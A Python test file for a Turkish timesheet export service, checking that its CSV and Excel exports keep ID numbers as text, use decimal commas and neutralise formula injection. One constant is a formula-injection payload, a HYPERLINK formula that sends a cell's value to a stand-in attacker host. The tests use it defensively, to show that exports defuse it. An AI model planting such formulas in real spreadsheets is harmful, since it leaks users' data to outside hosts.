"""Issue 14's defects, reproduced with real openpyxl and csv reads of the exports."""

from __future__ import annotations

import csv
import datetime as dt

import openpyxl

from puantaj.services.export import ExportService
from puantaj.services.timesheets import Edit

TC = "10000000146"  # a valid TC no: Excel shows a bare one as 1E+10
ATTACK = '=HYPERLINK("http://evil.example/?"&C2,"x")'


def _staff(services, session) -> str:
    emp = services.records["employees"].create(
        session,
        {
            "sicil_no": "0042",
            "tc_no": TC,
            "first_name": ATTACK,
            "last_name": "Işık",
            "hire_date": "01.01.2025",
        },
    )
    day = dt.date(2026, 11, 1)  # a Sunday: the weekly rest
    edits = [Edit(emp, day, "HT"), Edit(emp, day.replace(day=2), "X+2,5")]
    edits += [Edit(emp, day.replace(day=d), "X") for d in range(3, 28)]
    edits += [Edit(emp, day.replace(day=d), "D") for d in (28, 29, 30)]
    services.timesheets.write(session, edits)
    return emp


def excel_reads(field: str):
    """What Turkish Excel makes of a CSV field: ="..." is text, digits a number,
    d.d a date."""
    if field.startswith('="') and field.endswith('"'):
        return field[2:-1]
    if field.isdigit():
        return float(field)
    if field.count(".") == 1 and field.replace(".", "").isdigit():
        return "date"
    return field


def _csv(services, session, tmp_path) -> dict[str, str]:
    path = ExportService(services.timesheets).to_csv(
        session, ["Ankara"], 2026, 11, tmp_path / "kasim.csv"
    )
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads ş and ğ
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    return dict(zip(rows[0], rows[1], strict=True))


def test_csv_numbers_have_a_decimal_comma(services, ankara, tmp_path):
    _staff(services, ankara)
    row = _csv(services, ankara, tmp_path)
    assert row["FM saat"] == "2,5"
    assert excel_reads(row["FM saat"]) != "date"
    assert row["SGK gün"] == "27"  # 30 - 3 absent days, not 27.0


def test_csv_keeps_tc_sicil_and_eksik_code_as_text(services, ankara, tmp_path):
    _staff(services, ankara)
    row = _csv(services, ankara, tmp_path)
    tc = next(v for k, v in row.items() if k.startswith("TC"))
    assert excel_reads(tc) == TC
    assert excel_reads(row["Sicil"]) == "0042"
    assert excel_reads(row["Eksik kodu"]) == "15"


def test_csv_neutralises_a_formula_in_a_name(services, ankara, tmp_path):
    _staff(services, ankara)
    row = _csv(services, ankara, tmp_path)
    assert not row["Ad Soyad"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "HYPERLINK" in row["Ad Soyad"]


def test_xlsx_holds_no_live_formula_and_says_the_status_in_turkish(
    services, ankara, tmp_path
):
    _staff(services, ankara)
    path = ExportService(services.timesheets).to_xlsx(
        ankara, ["Ankara"], 2026, 11, tmp_path / "kasim.xlsx"
    )
    sheet = openpyxl.load_workbook(path)["Ankara"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = " ".join(str(c.value) for c in cells)
    assert "HYPERLINK" in texts
    assert "Taslak" in texts and "draft" not in texts


def test_the_payroll_transfer_neutralises_a_formula_too(services, ankara, tmp_path):
    _staff(services, ankara)
    path = ExportService(services.timesheets).to_payroll(
        ankara, ["Ankara"], 2026, 11, tmp_path / "bordro.xlsx"
    )
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws["C2"].value == "'" + ATTACK
